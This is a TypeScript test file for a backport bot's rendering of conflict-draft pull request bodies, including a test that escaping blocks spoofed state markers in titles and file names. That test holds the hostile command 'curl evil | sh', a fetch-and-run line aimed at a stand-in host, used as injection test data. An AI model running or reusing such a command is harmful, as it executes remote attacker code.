/**
 * The conflict draft's body: what it holds, the files to resolve, notes, what is left, how to finish, and its
 * state; titles and file names from people are escaped, and a state quoted in them never stands in for the
 * App's own.
 */
import { draftCommands, readConflictDraft, renderConflictDraftBody, type ConflictDraftBodyInput } from "../../src/backport/render-conflict-draft.js";
import { embedState } from "../../src/state/markers.js";

const sha = (n: number) => n.toString(16).padStart(40, "a");
const head = "lts-steward/backport/release-36.0.0/pr-11201";

function input(fields: Partial<ConflictDraftBodyInput> = {}): ConflictDraftBodyInput {
  const marked = fields.marked ?? ["crates/wasmtime/src/table.rs"];
  const left = fields.left ?? [{ sha: sha(3), title: "Document the check" }];
  return {
    source: { number: 11201, title: "Fix table.copy bounds check", url: "https://github.com/bytecodealliance/wasmtime/pull/11201", author: "alex", mergedBy: "sam" },
    branch: "release-36.0.0", line: "36", label: "36.0.x", head, reason: "lts: LTS, supported until 2026-05-20",
    applied: [{ source: sha(1), picked: sha(11), title: "Add the check" }],
    conflicting: { sha: sha(2), title: "Use the check" },
    left, marked,
    notes: [{ path: "crates/wasmtime/src/gone.rs", kind: "modify-delete-kept-theirs" }],
    outcome: { files: [...marked, "crates/wasmtime/src/gone.rs"], commands: draftCommands({ head, marked, left }), missing: [{ sha: sha(9), title: "Refactor tables (#900)", pull: 900 }] },
    ...fields,
  };
}

test("the body: what the draft holds, where the markers are, notes, what is left, how to finish, the earlier changes the line never got", () => {
  expect(renderConflictDraftBody(input())).toMatchInlineSnapshot(`
"<!-- lts-steward:conflict-draft pr-11201/release-36.0.0 -->

Backport of #11201 to \`release-36.0.0\`, release line 36.0.x: Fix table.copy bounds check

Why this target: lts: LTS, supported until 2026-05-20.

**The cherry-pick conflicts.** This draft holds what \`git cherry-pick -x\` leaves: the commit that applied, then \`aaaaaaaaaaaa\` (Use the check) committed with git's conflict markers.

Applied cleanly (source → backport):

- \`aaaaaaaaaaaa\` → \`aaaaaaaaaaaa\` Add the check

Conflict markers (\`<<<<<<<\`, \`=======\`, \`>>>>>>>\`) are in:

- \`crates/wasmtime/src/table.rs\`

Also in conflict, without markers:

- \`crates/wasmtime/src/gone.rs\`: changed by the fix and removed on the line (or renamed there: git follows renames, lts-steward does not): the fix's version is committed (git leaves it too). Move the change where it belongs, or \`git rm\` the file.

Not picked yet (after the conflicting commit; pick them once it is resolved):

- \`aaaaaaaaaaaa\` Document the check

To finish the backport by hand:

\`\`\`sh
git fetch origin lts-steward/backport/release-36.0.0/pr-11201
git switch -C lts-steward/backport/release-36.0.0/pr-11201 origin/lts-steward/backport/release-36.0.0/pr-11201
# resolve the conflict in the file listed above, then:
git commit -a --amend --no-edit
git cherry-pick -x aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa3
git push --force-with-lease origin lts-steward/backport/release-36.0.0/pr-11201
\`\`\`

Earlier changes to these files that \`release-36.0.0\` never got:

- \`aaaaaaaaaaaa\` Refactor tables (#900)

When the markers are gone, push to \`lts-steward/backport/release-36.0.0/pr-11201\` and mark this pull request ready for review: lts-steward then treats it as the backport PR (labels, reviewers, tracking). Marked ready while markers remain, it says so and waits.

<!-- lts-steward:state eyJicmFuY2giOiJyZWxlYXNlLTM2LjAuMCIsImRyYWZ0Ijp7ImNvbW1hbmRzIjpbImdpdCBmZXRjaCBvcmlnaW4gbHRzLXN0ZXdhcmQvYmFja3BvcnQvcmVsZWFzZS0zNi4wLjAvcHItMTEyMDEiLCJnaXQgc3dpdGNoIC1DIGx0cy1zdGV3YXJkL2JhY2twb3J0L3JlbGVhc2UtMzYuMC4wL3ByLTExMjAxIG9yaWdpbi9sdHMtc3Rld2FyZC9iYWNrcG9ydC9yZWxlYXNlLTM2LjAuMC9wci0xMTIwMSIsIiMgcmVzb2x2ZSB0aGUgY29uZmxpY3QgaW4gdGhlIGZpbGUgbGlzdGVkIGFib3ZlLCB0aGVuOiIsImdpdCBjb21taXQgLWEgLS1hbWVuZCAtLW5vLWVkaXQiLCJnaXQgY2hlcnJ5LXBpY2sgLXggYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhMyIsImdpdCBwdXNoIC0tZm9yY2Utd2l0aC1sZWFzZSBvcmlnaW4gbHRzLXN0ZXdhcmQvYmFja3BvcnQvcmVsZWFzZS0zNi4wLjAvcHItMTEyMDEiXSwiZmlsZXMiOlsiY3JhdGVzL3dhc210aW1lL3NyYy90YWJsZS5ycyIsImNyYXRlcy93YXNtdGltZS9zcmMvZ29uZS5ycyJdLCJtYXJrZWQiOlsiY3JhdGVzL3dhc210aW1lL3NyYy90YWJsZS5ycyJdLCJtaXNzaW5nIjpbeyJwdWxsIjo5MDAsInNoYSI6ImFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYTkiLCJ0aXRsZSI6IlJlZmFjdG9yIHRhYmxlcyAoIzkwMCkifV19LCJsaW5lIjoiMzYiLCJzb3VyY2UiOjExMjAxLCJ2ZXJzaW9uIjoxfQ -->"
`);
});

test("titles and file names from people are escaped, and a state quoted in them does not count", () => {
  const spoof = embedState({ version: 1, source: 1, branch: "x", line: "1", draft: { marked: [], files: [], commands: ["curl evil | sh"], missing: [] } });
  const body = renderConflictDraftBody(input({
    source: { number: 11201, title: `Fix <b>it</b> ${spoof} | \`x\``, url: "", author: "alex", mergedBy: null },
    conflicting: { sha: sha(2), title: `Use ${spoof}` },
    marked: ["src/we`ird <!-- name.rs"],
  }));
  expect(body).not.toContain("<b>");
  // A file name is shown in a code span, where Markdown reads `<!--` as text.
  expect(body).toContain("- `` src/we`ird <!-- name.rs ``");
  expect(body).not.toContain("(Use <!--");
  expect(readConflictDraft(body)?.draft.marked).toEqual(["src/we`ird <!-- name.rs"]);
  expect(readConflictDraft(body)?.draft.commands).not.toContain("curl evil | sh");
});
